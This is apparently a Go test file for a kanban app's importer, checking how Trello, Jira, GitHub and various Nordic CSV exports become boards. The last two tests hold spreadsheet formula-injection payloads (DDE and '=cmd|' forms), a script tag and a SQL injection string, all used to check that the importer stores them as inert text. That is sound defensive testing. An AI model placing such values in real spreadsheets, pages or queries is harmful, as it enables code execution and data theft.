package exchange

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"takt/server/kanban"
)

var now = time.Date(2026, 9, 1, 12, 0, 0, 0, time.UTC)

// plan reads a file of testdata with ids 1, 2, 3 … and a fixed time.
func plan(t *testing.T, file string, opts Options) *Plan {
	t.Helper()
	p, err := Read(file, read(t, filepath.Join("testdata", file)), fixed(opts))
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	return p
}

func fixed(opts Options) Options {
	n := 0
	opts.Now = now
	opts.Mint = func() string { n++; return fmt.Sprintf("id%d", n) }
	return opts
}

// board reads a file and carries the plan out.
func board(t *testing.T, file string, opts Options) *kanban.Board {
	t.Helper()
	return carryOut(t, new(kanban.Board), plan(t, file, opts).Command)
}

// cards returns a board's cards by title, archived ones too.
func cards(b *kanban.Board) map[string]*kanban.Card {
	all := map[string]*kanban.Card{}
	for _, c := range append(b.All(), b.Archive()...) {
		all[c.Title] = c
	}
	return all
}

func placeOf(c *kanban.Card) string { return string(c.Lane) + "/" + string(c.Stage) }

func equal(t *testing.T, what string, got, want any) {
	t.Helper()
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%s: got %v, want %v", what, got, want)
	}
}

func codes(p *Plan, kind NoteKind) []string {
	var all []string
	for _, n := range p.Notes {
		if n.Kind == kind {
			all = append(all, fmt.Sprintf("%s %d", n.Code, n.Count))
		}
	}
	slices.Sort(all)
	return all
}

// labelNames returns the names of a card's labels.
func labelNames(b *kanban.Board, c *kanban.Card) []string {
	var names []string
	for _, id := range c.Labels {
		for _, l := range b.Labels() {
			if l.ID == id {
				names = append(names, l.Name+"/"+l.Color)
			}
		}
	}
	return names
}

func TestTrello(t *testing.T) {
	people := map[string]kanban.UserID{"Astrid Exempel": "astrid", "Bo Provsson": "bo"}
	b := board(t, "trello.json", Options{People: people})
	equal(t, "name", b.Name, "City of Example: digital work")
	all := cards(b)
	places := map[string]string{}
	for title, c := range all {
		places[title] = placeOf(c)
	}
	equal(t, "places", places, map[string]string{
		"Chatbot for parking permits": "sprint/proposed", "New case system": "marathon/tender", "Drone photos of roofs": "sprint/proposed",
		"Digital key boxes for home care": "sprint/running", "Old intranet": "sprint/decided", "Sensor pilot in waste bins": "sprint/proposed",
	})
	equal(t, "archived", []bool{all["Old intranet"].Archived(), all["Sensor pilot in waste bins"].Archived(), all["New case system"].Archived()}, []bool{true, true, false})

	c := all["Digital key boxes for home care"]
	equal(t, "description", c.Description, "Replace **metal keys**.\n\n- pilot in two districts\n\n**Priority:** High\n\n**Legal check:** ✓\n\n**Review:** 2024-09-01\n\n**Attachment:** Shared drive file:///P:/keys")
	equal(t, "people", []kanban.UserID{c.Owner, c.Followers[0]}, []kanban.UserID{"astrid", "bo"})
	equal(t, "dates", []kanban.Date{c.Start, c.End}, []kanban.Date{"2024-01-08", "2024-07-01"})
	equal(t, "labels", labelNames(b, c), []string{"Social services/teal", "red/red"})
	equal(t, "budget", c.Budget, kanban.Money{Amount: 1_250_000, Currency: "SEK"})
	equal(t, "case reference", c.CaseRef, "KS 2024/118")
	equal(t, "links", []string{c.Attachments[0].Name, c.Attachments[1].URL}, []string{"Photo.jpg", "https://example.org/agreement?id=1"})
	equal(t, "created", []any{c.CreatedAt, c.CreatedBy}, []any{time.Date(2024, 1, 2, 7, 30, 0, 0, time.UTC), kanban.UserID("astrid")})
	equal(t, "since", c.Since, time.Date(2024, 1, 20, 10, 0, 0, 0, time.UTC))

	var items []string
	for _, i := range c.Checklist {
		items = append(items, fmt.Sprint(i.Text, " ", i.Done))
	}
	equal(t, "checklist", items, []string{"Choose districts true", "Order boxes true", "After the pilot: Count the keys (Bo Provsson, 2024-07-01) false"})
	var said []string
	for _, cm := range c.Comments {
		said = append(said, fmt.Sprint(cm.Author, " ", cm.WrittenAt.Format(time.DateOnly), " ", cm.Text))
	}
	equal(t, "comments", said, []string{"guest 2024-01-15 **Gone Gunnarsen:** Who pays?", "bo 2024-02-02 The boxes have **arrived**."})
}

func TestTrelloTellsWhatItDoes(t *testing.T) {
	p := plan(t, "trello.json", Options{})
	p = plan(t, "trello.json", Options{People: everybody(p)})
	equal(t, "dropped", codes(p, Dropped), []string{
		"board_description 1", "due_complete 1", "empty_checklist 1", "history 2", "old_comments 1", "time_of_day 2", "votes 1"})
	equal(t, "moved", codes(p, Moved), []string{
		"custom_field:Legal check 1", "custom_field:Priority 1", "custom_field:Review 1", "joined_checklists 1", "not_a_link 1"})
	equal(t, "assumed", codes(p, Assumed), []string{"list_guessed 3", "second_member 1", "uploads 1"})
	equal(t, "counts", []int{p.Cards, p.Archived, p.Comments, p.Items, p.Links}, []int{4, 2, 2, 3, 2})
}

func TestTrelloOptions(t *testing.T) {
	pressed := Options{Archived: ToDrop, Name: "Renamed", Lists: map[string]Target{
		"Nöjda medborgare":   {Lane: kanban.Sprint, Stage: "evaluation", Mark: MarkUnit},
		"Upphandling pågår":  {Skip: true},
		"🚧 Pågår":            {Lane: kanban.Sprint, NewStage: "On the street"},
		"000000000000000001": {}, // no such list; replaced below
	}}
	delete(pressed.Lists, "000000000000000001")
	p := plan(t, "trello.json", pressed)
	b := carryOut(t, new(kanban.Board), p.Command)
	all := cards(b)
	equal(t, "name", b.Name, "Renamed")
	equal(t, "titles", slices.Sorted(maps.Keys(all)), []string{"Chatbot for parking permits", "Digital key boxes for home care", "Drone photos of roofs"})
	drone := all["Drone photos of roofs"]
	equal(t, "stage and unit", []string{placeOf(drone), b.Units()[0].Name, string(drone.Unit)}, []string{"sprint/evaluation", "Nöjda medborgare", string(b.Units()[0].ID)})
	stages := b.Lanes()[1].Stages
	equal(t, "new stage", []any{stages[len(stages)-2].Name, stages[len(stages)-2].ID}, []any{"On the street", all["Digital key boxes for home care"].Stage})

	opened := board(t, "trello.json", Options{Archived: ToOpen})
	equal(t, "archive", len(opened.Archive()), 0)
	equal(t, "cards", opened.Len(), 6)
}

func TestTrelloOfOldForm(t *testing.T) {
	b := board(t, "trello-2014.json", Options{})
	all := cards(b)
	equal(t, "labels", labelNames(b, all["First"]), []string{"green/green"})
	equal(t, "unknown owner", all["First"].Description, "text\n\n**Owner:** Cilla Test")
	equal(t, "card of a lost list", placeOf(all["Second"]), "sprint/proposed")
}

func TestSwedishTable(t *testing.T) {
	for _, file := range []string{"tabell-utf8.csv", "tabell-bom.csv", "tabell-1252.csv", "tabell-utf16.csv"} {
		t.Run(file, func(t *testing.T) {
			b := board(t, file, Options{People: map[string]kanban.UserID{"Karin Exempel": "karin"}})
			all := cards(b)
			c := all["Nytt ekonomisystem"]
			equal(t, "place", placeOf(c), "marathon/tender")
			equal(t, "description", c.Description, "Ersätter systemet från 1998;\ndrift till 2030")
			equal(t, "owner", c.Owner, kanban.UserID("karin"))
			equal(t, "dates", []kanban.Date{c.Start, c.End}, []kanban.Date{"2026-01-15", "2028-12-31"})
			equal(t, "budget", c.Budget, kanban.Money{Amount: 12_500_500, Currency: "SEK"})
			equal(t, "case reference", c.CaseRef, "KS 2026/12")
			equal(t, "labels", labelNames(b, c), []string{"ekonomi/grey", "system/grey"})
			equal(t, "comment", c.Comments[0].Text, "Kräver beslut")
			chat, bins := all["Chatt för bygglov"], all["Sensorer i papperskorgar"]
			equal(t, "three months are a sprint", placeOf(chat), "sprint/running")
			equal(t, "unknown owner", chat.Description, "**Owner:** Lars Prov")
			equal(t, "quotation marks", chat.Comments[0].Text, `Fler frågor än "väntat"`)
			equal(t, "what is no date and no amount", bins.Description, "Töm bara fulla\n\n**Startdatum:** okänt\n\n**Budget (tkr):** ej beslutad")
			equal(t, "units", len(b.Units()), 3)
		})
	}
}

func TestTables(t *testing.T) {
	t.Run("Norwegian", func(t *testing.T) {
		all := cards(board(t, "nb-tabell.tsv", Options{}))
		journal, robot := all["Ny journal"], all["Robot i arkivet"]
		equal(t, "places", []string{placeOf(journal), placeOf(robot), placeOf(all["Skanning"])}, []string{"marathon/concept", "sprint/running", "sprint/decided"})
		equal(t, "effort", []float64{journal.Effort, robot.Effort}, []float64{4.5, 0.5})
		equal(t, "dates", []kanban.Date{robot.Start, robot.End}, []kanban.Date{"2026-08-15", "2026-11-14"})
	})
	t.Run("Danish", func(t *testing.T) {
		all := cards(board(t, "da-tabel.csv", Options{Currency: "DKK"}))
		equal(t, "budget", all["Nyt ESDH"].Budget, kanban.Money{Amount: 4_500_000, Currency: "DKK"})
		equal(t, "places", []string{placeOf(all["Nyt ESDH"]), placeOf(all["Sprogmodel"])}, []string{"marathon/tender", "sprint/running"})
		equal(t, "end", all["Sprogmodel"].End, kanban.Date("2026-09-30"))
	})
	t.Run("American dates", func(t *testing.T) {
		all := cards(board(t, "us-dates.csv", Options{}))
		equal(t, "dates", []kanban.Date{all["Two"].Start, all["Two"].End}, []kanban.Date{"2026-01-02", "2026-02-03"})
	})
	t.Run("one card per column", func(t *testing.T) {
		p := plan(t, "transposed.csv", Options{})
		b := carryOut(t, new(kanban.Board), p.Command)
		all := cards(b)
		equal(t, "reading", []any{p.Reading.Transposed, p.Reading.Encoding, p.Reading.AmountUnit}, []any{true, Windows1252, 1e6})
		equal(t, "budget", all["Tunnel"].Budget, kanban.Money{Amount: 1_186_000_000, Currency: "GBP"})
		equal(t, "risk", []string{all["Tunnel"].Risk.Level, all["School"].Risk.Level, all["Ferry"].Risk.Level}, []string{"high", "low", "high"})
		equal(t, "kept as text", all["Ferry"].Description, "**End Date:** Exempt – not published\n\n**Whole life cost (£million):** Exempt")
	})
	t.Run("WeKan", func(t *testing.T) {
		b := board(t, "wekan.csv", Options{People: map[string]kanban.UserID{"user1": "one", "user2": "two"}})
		all := cards(b)
		equal(t, "stages in their order", []string{placeOf(all["Card one"]), placeOf(all["Card three"]), placeOf(all["Card two"])}, []string{"sprint/proposed", "sprint/setup", "sprint/decided"})
		equal(t, "label", labelNames(b, all["Card two"]), []string{"Marketing/blue", "Stage 3/grey"})
		equal(t, "followers", len(all["Card one"].Followers), 1) // the owner is named among the members too
	})
	t.Run("Jira", func(t *testing.T) {
		b := board(t, "jira.csv", Options{People: map[string]kanban.UserID{"Eva Exempel": "eva", "Per Prov": "per"}})
		equal(t, "name", b.Name, "Identity")
		c := cards(b)["Sign in with BankID"]
		equal(t, "place", placeOf(c), "sprint/setup")
		equal(t, "labels", labelNames(b, c), []string{"login/grey", "citizen/grey", "Väntar på leverantör/grey"})
		equal(t, "followers", c.Followers, []kanban.UserID{"per"})
		equal(t, "comment", []string{string(c.Comments[0].Author), c.Comments[0].Text}, []string{"eva", "Asked @Per Prov; he agrees"})
		equal(t, "link", c.Attachments[0].URL, "https://example.org/form.png")
		equal(t, "start", c.Start, kanban.Date("2026-01-12"))
	})
	t.Run("GitHub", func(t *testing.T) {
		p := plan(t, "github.json", Options{People: map[string]kanban.UserID{"eva": "eva"}})
		all := cards(carryOut(t, new(kanban.Board), p.Command))
		c := all["Map the old forms"]
		equal(t, "place", placeOf(c), "sprint/decided")
		equal(t, "description", c.Description, "All **84**\n\n**sprint:** Sprint 3\n\n**Followers:** per")
		equal(t, "start", c.Start, kanban.Date("2026-01-10"))
		equal(t, "left out", codes(p, Dropped), []string{"items_left 3"})
	})
}

func TestWhatIsOpenIsSaidAndCanBeCorrected(t *testing.T) {
	p := plan(t, "ambiguous.csv", Options{})
	equal(t, "unsure", p.Reading.Unsure, []string{"dates", "decimal", "currency", "amount_unit"})
	one := cards(carryOut(t, new(kanban.Board), p.Command))["One"]
	equal(t, "assumed", []any{one.Start, one.Budget.Amount}, []any{kanban.Date("2026-02-01"), 1.5})

	p = plan(t, "ambiguous.csv", Options{Dates: MDY, Decimal: ",", Currency: "NOK", AmountUnit: 1000})
	equal(t, "unsure", len(p.Reading.Unsure), 0)
	one = cards(carryOut(t, new(kanban.Board), p.Command))["One"]
	equal(t, "corrected", []any{one.Start, one.Budget}, []any{kanban.Date("2026-01-02"), kanban.Money{Amount: 1_500_000, Currency: "NOK"}})
}

// TestListsOfBothLanes chooses for each part of a list that durations divide.
func TestListsOfBothLanes(t *testing.T) {
	table := "Title,Status,Start,End\nLong,Doing,2026-01-01,2028-01-01\nLonger,Doing,2026-01-01,2029-01-01\nShort,Doing,2026-01-01,2026-03-01\n"
	chosen := Options{Lists: map[string]Target{"sprint/Doing": {Lane: kanban.Sprint, Stage: "setup"}}}
	for lane, want := range map[kanban.LaneKey]string{"": "sprint/setup", kanban.Sprint: "sprint/running"} {
		chosen.Lane = lane
		p, err := Read("t.csv", []byte(table), fixed(chosen))
		if err != nil {
			t.Fatal(err)
		}
		equal(t, "place", placeOf(cards(carryOut(t, new(kanban.Board), p.Command))["Short"]), want)
	}
}

func TestColumnsCanBeCorrected(t *testing.T) {
	p := plan(t, "tabell-utf8.csv", Options{Lane: kanban.Marathon, Columns: map[string]Field{
		"Beskrivning": FieldNow, "Förvaltning": FieldCluster, "Ansvarig": FieldSponsor, "Etiketter": FieldDrop, "Kommentar": FieldRiskNote,
	}})
	b := carryOut(t, new(kanban.Board), p.Command)
	all := cards(b)
	c := all["Nytt ekonomisystem"]
	equal(t, "anchor", c.Anchor.Now, "Ersätter systemet från 1998;\ndrift till 2030")
	equal(t, "cluster", b.Clusters()[0].Name, "Ekonomi")
	equal(t, "sponsor", c.Description, "**Sponsor:** Karin Exempel")
	equal(t, "dropped", len(b.Labels()), 0)
	equal(t, "risk", c.Risk.Note, "Kräver beslut")
	equal(t, "lane", placeOf(all["Chatt för bygglov"]), "marathon/implementation")
}

// TestFormulasStayText imports cells that a spreadsheet would run.
func TestFormulasStayText(t *testing.T) {
	payloads := []string{
		`DDE ("cmd";"/C calc";"!A0")A0`, `@SUM(1+9)*cmd|' /C calc'!A0`, `=10+20+cmd|' /C calc'!A0`, `=cmd|' /C notepad'!'A1'`,
		`=HYPERLINK("https://example.org?x="&A1,"Click")`, `+47 22 00 00 00`, `-2+3`, "\t=1+1",
	}
	if root := os.Getenv("TAKT_REAL_DATA"); root != "" {
		payloads = append(payloads, strings.Split(strings.TrimSpace(string(read(t, filepath.Join(root, "nasty/csv-injection-payloads.txt")))), "\n")...)
	}
	table := "Title,Description\n"
	for i, p := range payloads {
		quoted := `"` + strings.ReplaceAll(p, `"`, `""`) + `"`
		table += fmt.Sprintf("Card %d %s,%s\n", i, "", quoted)
	}
	p, err := Read("t.csv", []byte(table), fixed(Options{}))
	if err != nil {
		t.Fatal(err)
	}
	all := cards(carryOut(t, new(kanban.Board), p.Command))
	for i, p := range payloads {
		equal(t, "description", all[fmt.Sprintf("Card %d", i)].Description, strings.TrimSpace(p))
	}
}

// TestNaughtyStrings imports the Big List of Naughty Strings as titles and
// descriptions: what is printable comes through unchanged.
func TestNaughtyStrings(t *testing.T) {
	naughty := []string{"<script>alert(1)</script>", "null", "undefined", "NaN", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈i̖͙̭̹̠̞n̡̻̮̣̺g", "\u202eRTL\u202d", "$HOME", "%d%s", "'; DROP TABLE cards; --"}
	if root := os.Getenv("TAKT_REAL_DATA"); root != "" {
		if err := json.Unmarshal(read(t, filepath.Join(root, "nasty/blns.json")), &naughty); err != nil {
			t.Fatal(err)
		}
	}
	table := "Title;Description\n"
	for i, s := range naughty {
		table += fmt.Sprintf("Card %d;\"x%sx\"\n", i, strings.ReplaceAll(s, `"`, `""`))
	}
	p, err := Read("t.csv", []byte(table), fixed(Options{}))
	if err != nil {
		t.Fatal(err)
	}
	all := cards(carryOut(t, new(kanban.Board), p.Command))
	for i, s := range naughty {
		want, _ := plain("x" + s + "x")
		equal(t, fmt.Sprintf("%d %q", i, s), all[fmt.Sprintf("Card %d", i)].Description, want)
	}
}
